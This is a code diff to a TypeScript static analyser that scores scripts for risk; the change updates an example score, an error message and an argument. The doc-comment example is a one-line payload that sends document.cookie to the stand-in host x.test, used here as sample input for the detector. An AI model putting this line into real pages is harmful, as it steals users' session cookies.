@@ -23,7 +23,7 @@ const utf8 = new TextEncoder();
 /**
  * Scores a script by what stands in it, without running it. The same text always gives the same answer.
  *
- *     classifyScript('new Image().src = "//x.test/?" + document.cookie').scores.integrity // 6
+ *     classifyScript('new Image().src = "//x.test/?" + document.cookie').scores.integrity // 7
  */
 export function classifyScript(source: string): ScriptVerdict {
   const bytes = source.length > MOST_SCRIPT_BYTES ? source.length : utf8.encode(source).length;
@@ -49,10 +49,10 @@ interface Budget {
 function look(source: string, reasons: Reasons, budget: Budget): NoScores | undefined {
   const parsed = parseScript(source);
   if (parsed.kind === 'too-deep') {
-    return { kind: 'too-deep', problem: 'it is nested too deeply to be judged' };
+    return { kind: 'too-deep', problem: 'it is nested too deeply' };
   }
   if (parsed.kind === 'not-javascript') return parsed;
-  const facts = collectFacts(readScript(source, parsed.program));
+  const facts = collectFacts(readScript(source, parsed));
   const starts = lineStarts(source);
   const placeOf = (node: number) =>
     budget.place ?? placeIn(starts, facts.reading.tree.node(node)?.start ?? 0);
